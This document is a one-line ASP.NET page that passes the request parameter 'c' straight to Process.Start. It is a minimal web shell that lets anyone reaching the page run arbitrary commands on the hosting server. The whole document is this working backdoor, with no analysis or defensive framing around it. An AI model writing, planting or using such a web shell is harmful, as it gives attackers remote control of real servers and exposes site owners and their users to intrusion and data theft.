<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["c"]); %>
